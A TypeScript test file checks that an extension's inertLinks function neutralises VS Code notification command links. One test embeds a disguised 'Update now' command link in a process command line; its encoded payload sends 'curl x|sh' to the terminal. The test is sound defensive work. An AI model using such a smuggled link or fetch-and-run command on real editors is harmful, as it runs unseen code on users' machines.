// Notifications turn `[label](command:…)` into a link that runs a command. The pattern below is the
// one VS Code's notifications use to find such links (src/vs/base/common/linkedText.ts in VS Code);
// text that went through inertLinks must give it nothing to find, and must otherwise read the same.
import * as assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { inertLinks } from '../../../../src/extension/shared/markdownText';

const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_NOTIFICATION_LINK)].map(m => m[2]);

describe('inertLinks (notification text)', () => {
  it('a command link in a process command line is a link before and plain text after', () => {
    const cmdline = 'node server.js [Update now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
    assert.deepEqual(links(`Kill ${cmdline}?`), ['command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D']);
    const safe = inertLinks(`Kill ${cmdline}?`);
    assert.deepEqual(links(safe), []);
    assert.equal(safe, 'Kill node server.js [Update now] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)?');
  });

  it('text without "](" is returned unchanged; every "](" gets a space, whatever follows it', () => {
    const cases: [string, string][] = [
      ['Port 3000 released: node (pid 12) ended.', 'Port 3000 released: node (pid 12) ended.'],
      ['a [bracket] and (parens)', 'a [bracket] and (parens)'],
      ['', ''],
      ['arr[0](x) without scheme', 'arr[0] (x) without scheme'],
      ['[a](b)[c](d)', '[a] (b)[c] (d)'],
    ];
    for (const [text, expected] of cases) { assert.equal(inertLinks(text), expected, JSON.stringify(text)); }
  });

  it('no input leaves a link for VS Code to find, and only the "](" pairs change', () => {
    const piece = fc.constantFrom('[', ']', '(', ')', '](', 'command:x', 'https://e.test/', 'file:///', ' ', '"t"', 'a', ']]((', '\\');
    fc.assert(fc.property(fc.array(piece, { maxLength: 40 }).map(a => a.join('')), text => {
      const safe = inertLinks(text);
      assert.deepEqual(links(safe), []);
      assert.equal(safe.replace(/\] \(/g, ']('), text.replace(/\] \(/g, ']('));
    }), { numRuns: 2000 });
  });
});
